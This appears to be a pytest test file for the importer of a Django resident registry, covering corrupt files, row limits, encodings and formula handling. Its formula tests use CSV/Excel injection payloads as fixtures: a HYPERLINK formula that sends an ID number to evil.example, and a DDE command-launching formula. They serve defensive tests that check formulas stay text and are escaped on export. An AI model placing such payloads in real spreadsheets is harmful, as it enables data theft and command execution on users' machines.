"""Bad files given to `gridgov import`: each gets ONE clear error and changes nothing; formulas
stay text; a million rows is refused at the row limit with bounded memory."""

import tracemalloc

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook

from gridgov.registry.importers import run_import
from gridgov.registry.models import Resident

from .conftest import make_id, write_xlsx

HEAD = ["姓名", "身份证号", "联系电话", "现住址(标准地址编码)"]


def row(i, name=None):
    return [name or f"居民{i}", make_id("19800101", i), f"138{i:08d}", "AA10001"]


def csv_bytes(rows, encoding="utf-8"):
    return ("\r\n".join(",".join(f'"{c}"' for c in r) for r in rows) + "\r\n").encode(encoding)


def one_error(kind, path):
    before = Resident.objects.count()
    result = run_import(kind, path)
    assert not result.ok and len(result.errors) == 1, [str(e) for e in result.errors]
    assert Resident.objects.count() == before
    return result.errors[0].reason


def test_corrupt_xlsx(base, tmp_path):
    good = write_xlsx(tmp_path / "g.xlsx", [HEAD, row(1)])
    data = good.read_bytes()
    (tmp_path / "cut.xlsx").write_bytes(data[: len(data) // 2])
    assert "无法读取 Excel 文件" in one_error("residents", tmp_path / "cut.xlsx")
    (tmp_path / "fake.xlsx").write_bytes(b"%PDF-1.4 not a workbook")
    assert "不是有效的 Excel" in one_error("residents", tmp_path / "fake.xlsx")
    (tmp_path / "bin.csv").write_bytes(b"\x00\x01\x02garbage\x00" * 50)
    assert "空字符" in one_error("residents", tmp_path / "bin.csv")


def test_wrong_template_is_one_error(base, tmp_path):
    p = tmp_path / "wrong.csv"
    p.write_bytes(csv_bytes([["单位名称", "统一社会信用代码", "地址"], ["甲公司", "x", "y"]]))
    reason = one_error("residents", p)
    assert "缺少必填列" in reason and "单位名称" in reason


def test_million_rows_refused_at_the_limit_with_bounded_memory(base, tmp_path, settings):
    settings.IMPORT_MAX_ROWS = 1000
    p = tmp_path / "huge.csv"
    line = "居民,110106198001010011,13800000000,AA10001\n".encode()
    with open(p, "wb") as fh:
        fh.write(",".join(HEAD).encode() + b"\n")
        for _ in range(100):
            fh.write(line * 10_000)  # 1,000,000 rows in all, about 55 MB
    size = p.stat().st_size
    tracemalloc.start()
    try:
        reason = one_error("residents", p)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "行数超过上限：最多 1000 行" in reason
    assert peak < size / 10, (peak, size)  # the file was never read whole


def test_formulas_are_kept_as_text_never_evaluated(base, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(HEAD)
    ws.append(['=HYPERLINK("http://evil.example/?"&B2,"点我")', make_id("19800101", 1), "13800000001", "AA10001"])
    ws.append(["=cmd|' /C calc'!A0", make_id("19800101", 2), "13800000002", "AA10001"])
    ws.append(["=1+1", make_id("19800101", 3), "13800000003", "AA10001"])
    wb.save(tmp_path / "f.xlsx")
    result = run_import("residents", tmp_path / "f.xlsx")
    assert result.ok, [str(e) for e in result.errors]
    names = set(Resident.objects.values_list("name", flat=True))
    assert {'=HYPERLINK("http://evil.example/?"&B2,"点我")', "=cmd|' /C calc'!A0", "=1+1"} <= names  # text, not 2
    # and the export escapes them again
    from openpyxl import load_workbook

    from gridgov.accounts.models import Role
    from gridgov.registry.exporters import export_xlsx
    from gridgov.testing import make_user

    out = tmp_path / "out.xlsx"
    export_xlsx("residents", make_user("adm", Role.ADMIN), out)
    cells = [c for r in load_workbook(out).active.iter_rows(values_only=True) for c in r if isinstance(c, str)]
    assert "'=1+1" in cells and not any(c.startswith("=") for c in cells)


def test_formula_text_in_csv_is_text(base, tmp_path):
    p = tmp_path / "f.csv"
    p.write_bytes(csv_bytes([HEAD, ["=cmd|' /C calc'!A0", make_id("19800101", 5), "13800000005", "AA10001"]]))
    assert run_import("residents", p).ok
    assert Resident.objects.filter(name="=cmd|' /C calc'!A0").exists()


@pytest.mark.parametrize("encoding", ["gbk", "utf-8-sig"])
def test_single_encodings_import(base, tmp_path, encoding):
    p = tmp_path / "e.csv"
    p.write_bytes(csv_bytes([HEAD, row(1, "张三"), row(2, "李四")], encoding))
    assert run_import("residents", p).ok
    assert set(Resident.objects.values_list("name", flat=True)) == {"张三", "李四"}


def test_mixed_encodings_one_error(base, tmp_path):
    p = tmp_path / "mixed.csv"
    p.write_bytes(csv_bytes([HEAD, row(1, "张三丰")], "utf-8") + csv_bytes([row(2, "李四光")], "gbk"))
    reason = one_error("residents", p)
    assert "混用了编码" in reason and "第3行是 GBK" in reason
    p.write_bytes(csv_bytes([HEAD, row(1, "张三丰")], "gbk") + csv_bytes([row(2, "李四光")], "utf-8"))
    assert "混用了编码" in one_error("residents", p)


def test_command_exits_with_the_one_error(base, tmp_path, settings):
    settings.IMPORT_MAX_ROWS = 2
    p = tmp_path / "three.csv"
    p.write_bytes(csv_bytes([HEAD, row(1), row(2), row(3)]))
    with pytest.raises(CommandError):
        call_command("import", "residents", str(p))
    assert Resident.objects.count() == 0
